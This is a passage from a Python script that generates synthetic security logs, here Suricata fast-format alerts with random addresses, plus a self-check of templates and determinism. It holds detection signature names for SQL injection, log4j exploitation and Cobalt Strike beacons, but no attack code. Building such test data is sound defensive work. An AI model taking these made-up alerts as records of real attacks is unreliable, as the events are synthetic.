    (230, "", "1:2210045:2", "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3, "TCP", "stream"),
    (160, "", "1:2210029:2", "SURICATA STREAM ESTABLISHED invalid ack", "Generic Protocol Command Decode", 3, "TCP", "stream"),
    (120, "", "1:2210020:2", "SURICATA STREAM ESTABLISHED packet out of window", "Generic Protocol Command Decode", 3, "TCP", "stream"),
    (90, "", "1:2260002:1", "SURICATA Applayer Detect protocol only one direction", "Generic Protocol Command Decode", 3, "TCP", "stream"),
    (45, "", "1:2221010:1", "SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", 3, "TCP", "web"),
    (30, "", "1:2230010:1", "SURICATA TLS invalid record/traffic", "Generic Protocol Command Decode", 3, "TCP", "tls"),
    (150, "", "1:2402000:7012", "ET DROP Dshield Block Listed Source", "Misc Attack", 2, "TCP", "inbound"),
    (60, "[Drop] ", "1:2402000:7012", "ET DROP Dshield Block Listed Source", "Misc Attack", 2, "TCP", "inbound"),
    (100, "", "1:2400001:3910", "ET DROP Spamhaus DROP Listed Traffic Inbound group 2", "Misc Attack", 2, "TCP", "inbound"),
    (80, "", "1:2403344:91562", "ET CINS Active Threat Intelligence Poor Reputation IP group 45", "Misc Attack", 2, "TCP", "inbound"),
    (35, "", "1:2403344:91562", "ET CINS Active Threat Intelligence Poor Reputation IP group 45", "Misc Attack", 2, "UDP", "inbound_udp"),
    (70, "", "1:2500000:6302", "ET COMPROMISED Known Compromised or Hostile Host Traffic group 1", "Misc Attack", 2, "TCP", "inbound"),
    (85, "", "1:2010935:3", "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "TCP", "p1433"),
    (50, "", "1:2010937:3", "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2, "TCP", "p3306"),
    (30, "", "1:2010939:3", "ET SCAN Suspicious inbound to PostgreSQL port 5432", "Potentially Bad Traffic", 2, "TCP", "p5432"),
    (40, "", "1:2001219:20", "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", "p22"),
    (18, "", "1:2009582:3", "ET SCAN NMAP -sS window 1024", "Attempted Information Leak", 2, "TCP", "inbound"),
    (12, "", "1:2024364:4", "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1, "TCP", "web_in"),
    (14, "", "1:2008578:6", "ET SCAN Sipvicious Scan", "Attempted Information Leak", 2, "UDP", "sip"),
    (60, "", "1:2013028:7", "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2, "TCP", "web_out"),
    (45, "", "1:2013504:6", "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management",
     "Not Suspicious Traffic", 3, "TCP", "web_out"),
    (12, "", "1:2013031:3", "ET POLICY Python-urllib/ Suspicious User Agent", "Attempted Information Leak", 2, "TCP", "web_out"),
    (25, "", "1:2027865:3", "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2, "UDP", "dns"),
    (40, "", "1:2100366:8", "GPL ICMP_INFO PING *NIX", "Misc activity", 3, "ICMP", "icmp"),
    (25, "", "1:2100384:5", "GPL ICMP_INFO PING", "Misc activity", 3, "ICMP", "icmp"),
    (8, "", "1:2006446:14", "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1, "TCP", "web_in"),
    (3, "[Drop] ", "1:2006446:14", "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1, "TCP", "web_in"),
    (4, "", "1:2034647:2", "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
     "Attempted Administrator Privilege Gain", 1, "TCP", "web_in"),
    (1, "", "1:2031412:3", "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected", 1, "TCP", "c2"),
    (3, "", "1:2018959:4", "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", 1, "TCP", "web_resp"),
    (9, "", "1:2001569:15", "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection", "Misc activity", 3, "TCP", "p445"),
    (20, "", "1:2200075:2", "SURICATA UDPv4 invalid checksum", "Generic Protocol Command Decode", 3, "UDP", "dns"),
    (4, "[wDrop] ", "1:2402000:7012", "ET DROP Dshield Block Listed Source", "Misc Attack", 2, "TCP", "inbound"),
]


def suricata_specs() -> list[Spec]:
    specs = []
    for w, act, gsr, sig, cls, prio, proto, kind in SURI_SIGS:
        fmt = (f"{{ts}}  {act}[**] [{gsr}] {sig} [**] [Classification: {cls}] [Priority: {prio}] "
               f"{{{proto}}} {{src}} -> {{dst}}")
        specs.append(Spec(w, SURI_LEVEL[prio], fmt, {"kind": kind}))
    return specs


def make_suricata(rng: random.Random) -> list[dict]:
    specs = suricata_specs()
    clock = Clock(rng, 1.5)
    ext = Z(rng, ip_pool(rng, 60), 1.05)
    lan = Z(rng, ip_pool(rng, 25, "10.1") + ["192.168.1.10", "192.168.1.23", "172.16.5.4"], 1.1)
    dmz = Z(rng, ["10.0.0.5", "10.0.0.6", "10.0.0.20", "10.0.0.21"], 1.0)
    dns = Z(rng, ["10.1.0.2", "10.1.0.3", "8.8.8.8", "1.1.1.1"], 1.2)
    web_ports = Z(rng, [80, 443, 8080, 8000], 1.5, shuffle=False)

    def row_vals(s: Spec) -> dict:
        t = clock.tick(rng)
        k = s.meta["kind"]
        e, l_, d = ext(rng), lan(rng), dmz(rng)
        if k == "stream":
            src, dst = (f"{l_}:{eport(rng)}", f"{e}:{rng.choice([443, 443, 80, 8443])}") if rng.random() < 0.6 else \
                (f"{e}:{rng.choice([443, 80])}", f"{l_}:{eport(rng)}")
        elif k == "web":
            src, dst = f"{e}:{web_ports(rng)}", f"{l_}:{eport(rng)}"
        elif k == "tls":
            src, dst = f"{l_}:{eport(rng)}", f"{e}:443"
        elif k in ("inbound", "inbound_udp"):
            src, dst = f"{e}:{rng.randint(1024, 65535)}", f"{d}:{rng.choice([22, 23, 80, 443, 445, 3389, 8080, 5060, 1433])}"
        elif k.startswith("p") and k[1:].isdigit():
            src, dst = f"{e}:{rng.randint(1024, 65535)}", f"{d}:{k[1:]}"
        elif k == "out22":
            src, dst = f"{l_}:{eport(rng)}", f"{e}:22"
        elif k == "sip":
            src, dst = f"{e}:{rng.choice([5060, 5070, 5072])}", f"{d}:5060"
        elif k == "web_in":
            src, dst = f"{e}:{rng.randint(1024, 65535)}", f"{d}:{web_ports(rng)}"
        elif k == "web_out":
            src, dst = f"{l_}:{eport(rng)}", f"{e}:{web_ports(rng)}"
        elif k == "web_resp":
            src, dst = f"{e}:{web_ports(rng)}", f"{l_}:{eport(rng)}"
        elif k == "dns":
            src, dst = f"{l_}:{eport(rng)}", f"{dns(rng)}:53"
        elif k == "icmp":
            src, dst = (f"{e}:8", f"{d}:0") if rng.random() < 0.7 else (f"{d}:0", f"{e}:0")
        elif k == "c2":
            src, dst = f"{l_}:{eport(rng)}", f"{e}:{rng.choice([443, 8080, 50050])}"
        else:  # p2p
            src, dst = f"{l_}:{rng.randint(6881, 6999)}", f"{e}:{rng.randint(1024, 65535)}"
        return {"ts": t.strftime("%m/%d/%Y-%H:%M:%S.") + f"{t.microsecond:06d}", "src": src, "dst": dst}

    return generate(rng, specs, row_vals)


# =========================================================================== registry + self-check
FORMATS: list[tuple[str, Callable[[random.Random], list[dict[str, str]]]]] = [("winlogbeat_json", make_winlogbeat),
    ("osquery_results", make_osquery), ("falco_json", make_falco), ("ossec_alerts", make_ossec),
    ("modsecurity_json", make_modsec), ("suricata_fast", make_suricata),
]


def _template_regex(template: str) -> re.Pattern:
    return re.compile("".join(".+?" if p == "<*>" else re.escape(p) for p in re.split(r"(<\*>)", template)),
                      re.DOTALL)


if __name__ == "__main__":
    for seed in (0, 1):
        for name, make in FORMATS:
            rows = make(random.Random(seed))
            assert len(rows) == N_ROWS, (name, len(rows))
            tmpl_level: dict = {}
            for r in rows:
                assert set(r) == {"line", "template", "level"}, r.keys()
                assert "\n" not in r["line"] and "\r" not in r["line"], (name, r["line"][:200])
                assert r["level"] in LEVELS, r["level"]
                assert _template_regex(r["template"]).fullmatch(r["line"]), (name, r["template"][:300], r["line"][:300])
                assert tmpl_level.setdefault(r["template"], r["level"]) == r["level"]
            n = len(tmpl_level)
            abnormal = sum(1 for lv in tmpl_level.values() if lv in ("WARN", "ERROR", "FATAL"))
            assert 15 <= n <= 60, (name, n)
            assert abnormal >= 3, (name, abnormal)
            if name.startswith(("ossec", "winlog", "osquery", "falco", "modsec")):
                for r in rows[:50]:
                    json.loads(r["line"])
            # re-run determinism
            assert make(random.Random(seed)) == rows
            print(f"seed={seed} {name}: {n} templates ({abnormal} abnormal)")
            if seed == 0:
                for r in rows[:: N_ROWS // 3][:3]:
                    print("   ", r["level"], r["line"][:300])
    print("OK")
